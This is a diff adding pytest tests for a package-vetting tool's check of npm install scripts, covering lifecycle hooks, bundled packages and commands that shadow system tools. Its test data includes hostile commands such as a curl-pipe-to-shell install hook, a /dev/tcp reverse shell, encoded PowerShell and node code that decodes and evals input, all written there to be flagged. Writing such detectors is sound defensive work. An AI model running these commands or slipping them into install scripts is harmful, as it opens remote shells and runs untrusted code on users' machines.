@@ -1,0 +1,240 @@
+import json
+import time
+
+import pytest
+
+from tests.checks.conftest import lines, npm, wheel
+from tests.factories import subject
+from vetting.checks import Context
+from vetting.checks._install import fetches, runs_fetched
+from vetting.checks.install_npm import InstallNpm
+from vetting.model.profile import InstallScript
+
+
+def found(context: Context, document: object, **files: bytes | str) -> list[str]:
+    whole = npm({"package.json": json.dumps(document), **files})
+    return lines(InstallNpm().run(whole, context))
+
+
+@pytest.mark.parametrize(
+    ("scripts", "expected"),
+    [
+        (
+            {"preinstall": "node check.js"},
+            ["high inst.npm.preinstall package.json: preinstall: node check.js"],
+        ),
+        (
+            {"install": "node-gyp rebuild"},
+            ["medium inst.npm.postinstall package.json: install: node-gyp rebuild"],
+        ),
+        (
+            {"postinstall": "node setup.js"},
+            ["medium inst.npm.postinstall package.json: postinstall: node setup.js"],
+        ),
+        (
+            {"postinstall": "curl -s https://a.example/x | sh"},
+            [
+                (
+                    "high inst.npm.fetches_code package.json: "
+                    "postinstall: curl -s https://a.example/x | sh"
+                ),
+                (
+                    "medium inst.npm.postinstall package.json: "
+                    "postinstall: curl -s https://a.example/x | sh"
+                ),
+            ],
+        ),
+        ({"prepare": "husky", "test": "curl x", "postpublish": "x", "start": "x"}, []),
+        ({"postinstall": ["node", "x"]}, []),
+        ({}, []),
+    ],
+)
+def test_commands_that_npm_runs_are_named(
+    scripts: dict[str, object], expected: list[str], context: Context
+) -> None:
+    assert found(context, {"name": "server", "scripts": scripts}) == expected
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -sSL x | bash",
+        "wget x -O y",
+        "CURL x",
+        "cat x|sh",
+        "cat x | zsh",
+        "echo aGk= | base64 -d",
+        "eval $(cat x)",
+        "powershell -enc AAAA",
+        "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
+        "node -e \"require('child_process').exec('x')\"",
+        "node -e \"eval(Buffer.from('eA==', 'base64').toString())\"",
+        "node --eval \"fetch('http'+'s://x')\"",
+        "python3 -c 'import urllib.request'",
+        "python -c 'exec(x)'",
+        "node-gyp rebuild --dist-url=https://a.example/headers",
+        "echo hello && curl x",
+        "echo $(curl x)",
+        "echo `wget x`",
+        "node -e \"a;require('child_process')\"",
+    ],
+)
+def test_a_command_that_fetches_or_decodes_code(command: str) -> None:
+    assert fetches(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "node setup.js",
+        'node -e "process.exit(0)"',
+        "node -e \"try{require('./postinstall')}catch(e){}\"",
+        'node dist/track.js && node dist/verify.js || node -e "process.exit(0)"',
+        "node-gyp rebuild",
+        "npx only-allow pnpm",
+        "tsc -p . && chmod +x dist/*.js",
+        "echo 'Thanks! See https://a.example/sponsor'",
+        "printf 'curl is needed' ; node x.js",
+        "echo a | tee b",
+        "node curly.js",
+        "npm run evaluate",
+        "python setup_base64.py",
+        "",
+    ],
+)
+def test_a_command_that_does_not(command: str) -> None:
+    assert not fetches(command)
+
+
+def test_an_address_alone_counts_in_commands_only() -> None:
+    assert fetches("node x.js https://a.example")
+    assert not runs_fetched("see https://a.example")
+
+
+@pytest.mark.parametrize(
+    "text", ["node -e " * 2_500, "|" + " " * 19_999, "echo " * 4_000, ";" * 20_000]
+)
+def test_a_hostile_command_takes_no_time(text: str) -> None:
+    begun = time.monotonic()
+    fetches(text)
+    assert time.monotonic() - begun < 3
+
+
+GYP = {"binding.gyp": "{}"}
+
+
+@pytest.mark.parametrize(
+    ("document", "files", "expected"),
+    [
+        ({}, GYP, ["medium inst.npm.postinstall package.json: install: node-gyp rebuild"]),
+        (
+            {"gypfile": True},
+            GYP,
+            ["medium inst.npm.postinstall package.json: install: node-gyp re"],
+        ),
+        ({"gypfile": False}, GYP, []),
+        (
+            {"scripts": {"install": "echo"}},
+            GYP,
+            ["medium inst.npm.postinstall package.json: install: echo"],
+        ),
+        (
+            {"scripts": {"preinstall": "echo"}},
+            GYP,
+            ["high inst.npm.preinstall package.json: preinstall: echo"],
+        ),
+        ({}, {"src/binding.gyp": "{}"}, []),
+        ({}, {"other.gyp": "{}"}, []),
+    ],
+)
+def test_npm_compiles_without_being_asked(
+    document: dict[str, object], files: dict[str, str], expected: list[str], context: Context
+) -> None:
+    result = found(context, document, **files)
+    assert len(result) == len(expected)
+    assert all(line.startswith(start) for line, start in zip(result, expected, strict=True))
+
+
+BAD = '{"scripts": {"postinstall": "node x.js"}}'
+
+
+@pytest.mark.parametrize(
+    ("path", "runs"),
+    [
+        ("node_modules/dep/package.json", True),
+        ("node_modules/@scope/dep/package.json", True),
+        ("node_modules/dep/node_modules/@scope/deeper/package.json", True),
+        ("node_modules/dep/dist/esm/package.json", False),
+        ("node_modules/dep/test/node_modules/x/package.json", False),
+        ("templates/app/package.json", False),
+        ("templates/app/node_modules/x/package.json", False),
+        ("node_modules/package.json", False),
+        ("node_modules/@scope/package.json", False),
+        ("dist/package.json", False),
+    ],
+)
+def test_bundled_packages_run_their_scripts_too(path: str, runs: bool, context: Context) -> None:
+    result = found(context, {"name": "server"}, **{path: BAD})
+    expected = [f"medium inst.npm.postinstall {path}: postinstall: node x.js"]
+    assert result == (expected if runs else [])
+
+
+@pytest.mark.parametrize(
+    ("document", "commands"),
+    [
+        ({"name": "server", "bin": {"git": "x.js", "server": "y.js"}}, ["git"]),
+        ({"name": "server", "bin": {"Node": "x.js", "npx": "y.js"}}, ["Node", "npx"]),
+        ({"name": "git", "bin": "x.js"}, []),
+        ({"name": "git", "bin": {"git": "x.js"}}, []),
+        ({"name": "@scope/git", "bin": "x.js"}, ["git"]),
+        ({"name": "server", "bin": {"git-helper": "x.js", "mygit": "y.js"}}, []),
+        ({"name": "server", "bin": 7}, []),
+        ({"name": "server"}, []),
+    ],
+)
+def test_commands_of_the_system_are_not_a_packages_to_take(
+    document: dict[str, object], commands: list[str], context: Context
+) -> None:
+    assert found(context, document) == [
+        f"high inst.npm.bin_shadow package.json: installs the command {name}" for name in commands
+    ]
+
+
+def test_commands_of_bundled_packages_are_not_installed(context: Context) -> None:
+    bundled = {"node_modules/dep/package.json": '{"name": "dep", "bin": {"git": "x.js"}}'}
+    assert found(context, {"name": "server"}, **bundled) == []
+
+
+def test_a_long_command_is_clipped_and_counts_as_fetching(context: Context) -> None:
+    command = "x" * 20_001
+    assert found(context, {"scripts": {"install": command}}) == [
+        f"high inst.npm.fetches_code package.json: install: {'x' * 500}…",
+        f"medium inst.npm.postinstall package.json: install: {'x' * 500}…",
+    ]
+    assert not fetches(command[:-1])
+
+
+def test_every_script_is_a_fact_once(context: Context) -> None:
+    whole = npm(
+        {
+            "package.json": '{"scripts": {"postinstall": "node x.js", "install": "a"}}',
+            "node_modules/dep/package.json": BAD,
+        }
+    )
+    evidence = InstallNpm().run(whole, context)
+    assert evidence.profile is not None
+    assert evidence.profile.install_scripts == (
+        InstallScript(name="install", command="a"),
+        InstallScript(name="postinstall", command="node x.js"),
+    )
+
+
+@pytest.mark.parametrize("text", ["{", "[]", "7", '{"scripts": 7}', b"\xff", "[" * 100_000])
+def test_a_manifest_that_cannot_be_parsed_is_left_to_the_manifest_check(
+    text: bytes | str, context: Context
+) -> None:
+    assert lines(InstallNpm().run(npm({"package.json": text}), context)) == []
+
+
+def test_a_package_json_in_a_wheel_is_data(context: Context) -> None:
+    assert lines(InstallNpm().run(subject(wheel({"package.json": BAD})), context)) == []
